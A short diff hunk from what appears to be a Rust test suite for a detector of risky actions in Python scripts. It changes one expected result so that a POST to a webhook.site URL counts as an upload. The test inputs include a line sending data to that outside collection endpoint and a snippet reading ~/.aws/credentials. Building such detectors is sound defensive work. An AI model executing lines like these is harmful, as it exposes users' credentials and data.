@@ -94,7 +94,7 @@ fn secrets_sent_from_a_script() {
     );
     assert_eq!(
         py("requests.post('https://abc.webhook.site/', json=summary)"),
-        [S]
+        [DangerKind::Uploads]
     );
     // A credential sent to the service it is for.
     assert!(py("import configparser, os, requests\ncfg = configparser.ConfigParser()\ncfg.read(os.path.expanduser('~/.aws/credentials'))\nrequests.post('https://sts.us-east-1.amazonaws.com/', data=signed)\n").is_empty());
